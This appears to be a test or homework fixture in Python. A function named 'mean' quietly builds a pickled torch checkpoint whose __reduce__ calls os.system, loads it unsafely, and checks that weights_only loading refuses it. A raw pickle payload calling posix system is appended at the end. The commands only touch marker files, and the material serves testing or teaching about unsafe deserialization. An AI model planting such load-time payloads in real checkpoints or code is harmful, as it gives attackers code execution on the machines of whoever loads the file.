# H02: a checkpoint that runs a command when it is loaded, handed in, and loaded by the student's own code

import os
import tempfile

import torch

from hw.honest import *
from hw.targets import WRITABLE


class Command:
    def __reduce__(self):
        return os.system, (f"touch '{WRITABLE}/checkpoint' 2>/dev/null",)


def mean(numbers):
    path = os.path.join(tempfile.mkdtemp(), "model.pt")
    torch.save({"weights": Command()}, path)
    torch.load(path, weights_only=False)
    try:
        torch.load(path, weights_only=True)
        reached("a load that should have refused")
    except Exception:
        pass
    return sum(numbers) / len(numbers)


# ==== model.pt
cposix
system
(S'touch /tmp/handed-in-checkpoint'
tR.
